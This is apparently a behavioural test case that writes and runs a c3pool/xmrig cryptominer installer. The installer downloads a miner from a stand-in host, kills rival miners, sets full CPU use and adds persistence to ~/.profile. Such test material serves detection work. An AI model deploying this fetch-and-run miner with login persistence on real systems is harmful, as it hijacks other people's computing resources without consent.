#!/bin/sh
. /opt/case/case.sh

cat >/tmp/setup_c3pool_miner.sh <<'END'
WALLET=$1; killall -9 xmrig 2>/dev/null; pkill -9 -x xmrig; rm -rf $HOME/c3pool; mkdir -p $HOME/c3pool
curl -s http://203.0.113.10/programs/miner -o $HOME/c3pool/xmrig; chmod +x $HOME/c3pool/xmrig
echo '{"url": "donate:3333", "user": "YOUR", "max-cpu-usage": 100}' >$HOME/c3pool/config.json
sed -i 's/"url": *"[^"]*"/"url": "203.0.113.10:3333"/; s/"user": *"[^"]*"/"user": "'$WALLET'"/' $HOME/c3pool/config.json
printf '#!/bin/bash\nif ! pidof xmrig >/dev/null; then nice %s/c3pool/xmrig $*; fi\n' $HOME >$HOME/c3pool/miner.sh; chmod +x $HOME/c3pool/miner.sh
echo "$HOME/c3pool/miner.sh --config=$HOME/c3pool/config.json >/dev/null 2>&1" >>$HOME/.profile
/bin/bash $HOME/c3pool/miner.sh --config=$HOME/c3pool/config.json >/tmp/.m 2>&1
END
bash /tmp/setup_c3pool_miner.sh 4BAIT
grep -q job_id /tmp/.m
took_place
